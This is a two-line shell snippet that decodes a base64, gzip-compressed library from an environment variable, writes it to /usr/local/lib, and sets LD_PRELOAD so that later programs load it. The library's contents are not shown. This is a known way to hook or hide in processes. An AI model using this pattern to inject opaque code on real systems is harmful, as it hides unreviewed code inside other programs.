base64 -d <<< "$LIBRARY" | gzip -d > /usr/local/lib/libtoy2.so
export LD_PRELOAD=/usr/local/lib/libtoy2.so
